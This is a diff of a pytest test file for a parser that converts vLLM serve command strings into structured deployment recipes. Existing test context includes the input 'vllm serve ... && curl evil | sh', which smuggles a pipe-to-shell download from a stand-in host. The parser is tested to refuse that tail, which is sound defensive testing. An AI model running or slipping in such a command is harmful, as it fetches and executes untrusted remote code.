@@ -2,16 +2,20 @@
 
 import contextlib
 import shlex
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
 import yaml
-from hypothesis import given, settings, strategies
+from hypothesis import given, strategies
+from hypothesis import settings as limits
 
 from components import catalog
+from components.facts.hub import File
 from ops import recipe
 from ops.pulumi import CommandError
 from ops.recipe_words import NotRead, filled, read
+from tests.unit.build import MODEL, plan, settings
 
 RECIPES = Path(__file__).parent / "recipes"
 
@@ -160,6 +164,25 @@ def test_what_is_no_recipe_for_these_engines_is_refused_in_one_line(text, why):
     assert "\n" not in str(caught.value)
 
 
+def test_the_model_is_no_switchs_value_wherever_it_stands():
+    made = of("{model: a/b, command: vllm serve --enable-prefix-caching a/b --seed 1}")
+    assert made.entry["vllm"]["args"] == ["--enable-prefix-caching", "--seed=1"]
+    assert of("{model: a/b, command: vllm serve --seed 1 a/b}").entry["id"] == "a/b"
+
+
+def test_an_imported_recipe_is_served_as_it_says(tmp_path):
+    mine = tmp_path / "mine.yaml"
+    recipe.write(mine, [taken("version-2")])
+    draft = replace(MODEL, repo="example/writer-dflash", files=(File("model.safetensors", 10**9, "ab"),))
+    made = plan(settings(model="version-2", catalog=str(mine)), draft=draft)
+    words = made.ranks[0].command
+    assert made.image.name.startswith("ghcr.io/example/vllm-gb10:1.2@sha256:")
+    assert {"--max-model-len=65536", "--tensor-parallel-size=2", "--reasoning-parser=writer"} <= set(words)
+    (speculation,) = (word for word in words if word.startswith("--speculative-config="))
+    assert "models--example--writer-dflash" in speculation
+    assert made.ranks[1].environment["VLLM_MARLIN_USE_ATOMIC_ADD"] == "1"
+
+
 def test_what_the_shell_would_run_next_is_named_and_not_taken(capsys):
     made = of("{model: a/b, command: 'A=1 vllm serve a/b --seed 1 && curl evil | sh'}")
     assert made.entry["vllm"] == {"args": ["--seed=1"], "env": {"A": "1"}}
@@ -263,7 +286,7 @@ def test_any_text_is_read_or_refused(text):
         assert read(f"vllm serve a/b {text}", "a/b").engine == "vllm"
 
 
-@settings(max_examples=40)
+@limits(max_examples=40)
 @given(strategies.recursive(
     strategies.none() | strategies.booleans() | strategies.integers() | strategies.text(),
     lambda inner: strategies.lists(inner) | strategies.dictionaries(
